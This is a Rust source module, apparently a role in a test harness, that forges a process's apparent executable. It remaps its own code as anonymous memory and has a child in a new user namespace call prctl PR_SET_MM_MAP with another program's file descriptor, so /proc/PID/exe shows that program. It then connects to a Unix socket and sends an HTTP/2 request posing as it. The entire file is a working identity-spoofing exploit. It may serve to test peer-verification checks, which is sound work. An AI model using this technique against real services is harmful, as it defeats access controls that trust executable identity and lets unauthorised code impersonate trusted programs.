//! A role that shows another program than it runs. A child that shares its memory is root of a user namespace of its own, and
//! says there which file `/proc/PID/exe` shows of that memory; the parent never leaves the namespaces of the host.

use std::{
    fs::{self, File},
    io::{self, Write},
    os::{fd::AsRawFd, unix::net::UnixStream},
    ptr,
};

use nix::{
    sys::wait::{WaitStatus, waitpid},
    unistd::Pid,
};

use crate::h2::{answer_pings, request};

/// `struct prctl_mm_map`.
#[derive(Debug, Default)]
#[repr(C)]
struct MemoryMap {
    start_code: u64,
    end_code: u64,
    start_data: u64,
    end_data: u64,
    start_brk: u64,
    brk: u64,
    start_stack: u64,
    arg_start: u64,
    arg_end: u64,
    env_start: u64,
    env_end: u64,
    auxv: u64,
    auxv_size: u32,
    exe_fd: u32,
}

/// Asks as `program`, which it does not run. Says `forged` when the kernel shows that program.
pub(crate) fn forge(socket: &str, program: &str) -> io::Result<()> {
    let file = File::open(program)?;
    leave_own_file()?;
    show(&file)?;
    let shown = fs::read_link("/proc/self/exe")?;
    println!("{}", serde_json::json!({ "event": "forged", "exe": shown }));
    let mut door = UnixStream::connect(socket)?;
    door.write_all(&request())?;
    answer_pings(&mut door)
}

/// Puts a copy in the place of every mapping of our own executable: the kernel changes what it shows only when nothing of the file is
/// mapped any more.
fn leave_own_file() -> io::Result<()> {
    let own = fs::read_link("/proc/self/exe")?;
    let own = format!(" {}", own.display());
    let maps = fs::read_to_string("/proc/self/maps")?;
    let parts: Vec<_> = maps
        .lines()
        .filter(|line| line.ends_with(&own))
        .filter_map(|line| {
            let (start, rest) = line.split_once('-')?;
            let (end, rights) = rest.split_once(' ')?;
            let start = usize::from_str_radix(start, 16).ok()?;
            let length = usize::from_str_radix(end, 16).ok()? - start;
            let bits = [
                ('r', libc::PROT_READ),
                ('w', libc::PROT_WRITE),
                ('x', libc::PROT_EXEC),
            ];
            let rights = rights.get(..3)?;
            let rights = bits.iter().filter(|(letter, _)| rights.contains(*letter));
            Some((
                start,
                length,
                rights.fold(libc::PROT_NONE, |all, (_, bit)| all | bit),
            ))
        })
        .collect();
    for (start, length, rights) in parts {
        // SAFETY: the part is mapped, and readable in every program of ours. The copy has its bytes and rights when it takes its place, and
        // nothing is written to it in between: we have one thread, and these calls keep what they need on the stack.
        let moved = unsafe {
            let place = ptr::with_exposed_provenance_mut::<libc::c_void>(start);
            let writable = libc::PROT_READ | libc::PROT_WRITE;
            let flags = libc::MAP_PRIVATE | libc::MAP_ANONYMOUS;
            let copy = libc::mmap(ptr::null_mut(), length, writable, flags, -1, 0);
            if copy == libc::MAP_FAILED {
                return Err(io::Error::last_os_error());
            }
            ptr::copy_nonoverlapping(place.cast::<u8>(), copy.cast::<u8>(), length);
            libc::mprotect(copy, length, rights) == 0
                && libc::mremap(
                    copy,
                    length,
                    length,
                    libc::MREMAP_MAYMOVE | libc::MREMAP_FIXED,
                    place,
                ) != libc::MAP_FAILED
        };
        if !moved {
            return Err(io::Error::last_os_error());
        }
    }
    Ok(())
}

/// Has a child in a user namespace of its own say that our memory is that of `file`.
fn show(file: &File) -> io::Result<()> {
    let stat = fs::read_to_string("/proc/self/stat")?;
    let (_, fields) = stat.rsplit_once(") ").ok_or(io::ErrorKind::InvalidData)?;
    let fields: Vec<u64> = fields
        .split_whitespace()
        .map(|field| field.parse().unwrap_or(0))
        .collect();
    // As proc_pid_stat(5) counts them; the first two are before the bracket.
    let field = |number: usize| fields[number - 3];
    // SAFETY: asks where the heap ends and changes nothing.
    let brk = unsafe { libc::sbrk(0) };
    let mut map = MemoryMap {
        start_code: field(26),
        end_code: field(27),
        start_stack: field(28),
        start_data: field(45),
        end_data: field(46),
        start_brk: field(47),
        brk: brk.expose_provenance() as u64,
        arg_start: field(48),
        arg_end: field(49),
        env_start: field(50),
        env_end: field(51),
        exe_fd: file.as_raw_fd().unsigned_abs(),
        ..MemoryMap::default()
    };
    let mut stack = vec![0u8; 64 << 10];
    let flags = libc::CLONE_VM | libc::CLONE_VFORK | libc::CLONE_NEWUSER | libc::SIGCHLD;
    // SAFETY: the child has a stack of its own; we stand still until it has ended (CLONE_VFORK), so map and stack outlive it.
    let child = unsafe {
        let top = stack.as_mut_ptr_range().end;
        libc::clone(tell, top.cast(), flags, ptr::from_mut(&mut map).cast())
    };
    if child < 0 {
        return Err(io::Error::last_os_error());
    }
    match waitpid(Pid::from_raw(child), None)? {
        WaitStatus::Exited(_, 0) => Ok(()),
        WaitStatus::Exited(_, errno) => Err(io::Error::from_raw_os_error(errno)),
        other => Err(io::Error::other(format!("{other:?}"))),
    }
}

/// What the child does; its exit status is the kernel's error.
extern "C" fn tell(map: *mut libc::c_void) -> libc::c_int {
    // SAFETY: the kernel reads one MemoryMap, which is what the parent passed and keeps.
    let answer = unsafe {
        libc::prctl(
            libc::PR_SET_MM,
            libc::PR_SET_MM_MAP as libc::c_ulong,
            map,
            size_of::<MemoryMap>(),
            0 as libc::c_ulong,
        )
    };
    if answer == 0 {
        return 0;
    }
    io::Error::last_os_error().raw_os_error().unwrap_or(1)
}
